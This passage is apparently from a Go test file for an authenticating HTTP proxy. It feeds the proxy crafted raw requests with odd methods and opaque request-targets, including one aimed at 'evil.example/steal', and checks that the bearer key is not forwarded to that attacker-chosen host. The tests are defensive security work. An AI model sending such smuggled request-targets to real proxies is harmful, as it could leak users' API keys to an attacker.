		"trace /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
		"GET x:/y HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
		"GET x:evil.example HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
		"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nAuthorization: Bearer sk_local_trusted\r\nConnection: close\r\n\r\n",
	} {
		said := talk(t, p, request)
		t.Logf("%.40q: %.80q; %q", request, said, w.take())
	}
}

// TestHostileKeyToAnotherHost: an opaque target becomes an absolute one of a host that the caller chose, with the real key. Who
// receives it goes by that, and not by the Host (RFC 9112 §3.2.2): a forward proxy, or a gateway before WorkOS, sends the key
// there.
func TestHostileKeyToAnotherHost(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	said := talk(t, p, "GET x:http://evil.example/steal HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_local_trusted\r\nConnection: close\r\n\r\n")
	if sent := w.take(); strings.Contains(sent, "evil.example") {
		t.Errorf("%.80q: the upstream was sent %q", said, sent)
	}
}
